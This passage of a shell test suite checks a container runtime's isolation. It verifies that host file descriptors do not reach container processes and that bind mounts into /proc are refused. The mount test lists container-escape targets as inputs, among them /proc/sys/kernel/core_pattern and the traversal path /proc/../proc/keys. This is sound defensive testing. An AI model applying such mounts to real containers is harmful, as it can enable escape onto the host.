	[[ "$text" == *report-done* ]] || {
		echo "no fd report: $text" >&2
		return 1
	}
	assert_equal "$(grep '^fds:' <<<"$text")" "fds: 0 1 2 3"
	# the listing worked: stdio is there
	[ "$(grep -cE ' [012] -> ' <<<"$text")" -eq 3 ]
	while read -r line; do
		case "${line#pid1 }" in
		0\ * | 1\ * | 2\ *) ;;
		*)
			echo "pid 1 has an fd past stdio: $line" >&2
			return 1
			;;
		esac
		for d in "${HOST_FD_DIRS[@]}"; do
			if [ "${line#* -> }" = "$d" ]; then
				echo "host directory reachable from the container: $line" >&2
				return 1
			fi
		done
	done < <(sed -n 's/.* \([0-9][0-9]*\) -> /pid1 \1 -> /p' <<<"$text")
}

@test "security: fds open in the caller (host directories) do not reach run, create/start or exec processes" {
	# run (foreground)
	set_args sh -c "$FD_REPORT"
	id=$(unique_id)
	_rt_with_host_fds "$TESTDIR/run.out" "$TESTDIR/run.err" run --bundle "$BUNDLE" "$id"
	assert_no_host_fds "$(cat "$TESTDIR/run.out" "$TESTDIR/run.err")"

	# create + start: the init waits for start with whatever create gave it
	set_args sh -c "$FD_REPORT; sleep 1000"
	id=$(unique_id)
	_rt_with_host_fds "$TESTDIR/c.out" "$TESTDIR/c.err" create --bundle "$BUNDLE" "$id"
	_rt_with_host_fds "$TESTDIR/s.out" "$TESTDIR/s.err" start "$id"
	wait_until 10 grep -q report-done "$TESTDIR/c.out"
	assert_no_host_fds "$(cat "$TESTDIR/c.out" "$TESTDIR/c.err")"

	# exec (foreground and detached): the exec'd process itself
	_rt_with_host_fds "$TESTDIR/e.out" "$TESTDIR/e.err" exec "$id" sh -c "$(fd_report '$$')"
	assert_no_host_fds "$(cat "$TESTDIR/e.out" "$TESTDIR/e.err")"
	_rt_with_host_fds "$TESTDIR/d.out" "$TESTDIR/d.err" exec -d "$id" sh -c "$(fd_report '$$')"
	wait_until 10 grep -q report-done "$TESTDIR/d.out"
	assert_no_host_fds "$(cat "$TESTDIR/d.out" "$TESTDIR/d.err")"
}


@test "security: mounts inside /proc are refused, except binds over runc's allowlisted files" {
	echo "fake cpuinfo" >"$BUNDLE/cpuinfo"
	mkdir -p "$BUNDLE/fakedir"
	update_config '.mounts += [{"destination": "/proc/cpuinfo", "type": "bind", "source": "cpuinfo", "options": ["bind", "ro"]}]'
	set_args cat /proc/cpuinfo
	runtime run --bundle "$BUNDLE" "$(unique_id)"
	assert_status 0
	assert_output_contains "fake cpuinfo"

	cp "$BUNDLE/config.json" "$TESTDIR/config.saved"
	local dest src
	for dest in /proc/sys:fakedir /proc/self:fakedir /proc/sys/kernel/core_pattern:cpuinfo /proc/../proc/keys:cpuinfo; do
		src=${dest#*:}
		dest=${dest%%:*}
		cp "$TESTDIR/config.saved" "$BUNDLE/config.json"
		update_config '.mounts += [{"destination": $d, "type": "bind", "source": $s, "options": ["bind"]}]' --arg d "$dest" --arg s "$src"
		set_args true
		runtime run --bundle "$BUNDLE" "$(unique_id)"
		[ "$status" -ne 0 ] || {
			echo "a bind mount on $dest was accepted" >&2
			return 1
		}
		assert_output_contains_i "proc"
	done
	assert_root_empty
	# Apus is stricter than runc 1.1 (which lets a tmpfs in): nothing but the
	# allowlisted binds goes inside /proc (docs/runc-behaviour.md).
	runtime_is_apus || return 0
	cp "$TESTDIR/config.saved" "$BUNDLE/config.json"
	update_config '.mounts += [{"destination": "/proc/sys", "type": "tmpfs", "source": "tmpfs"}]'
	runtime run --bundle "$BUNDLE" "$(unique_id)"
	assert_status 1
	assert_output_contains "inside /proc"
}
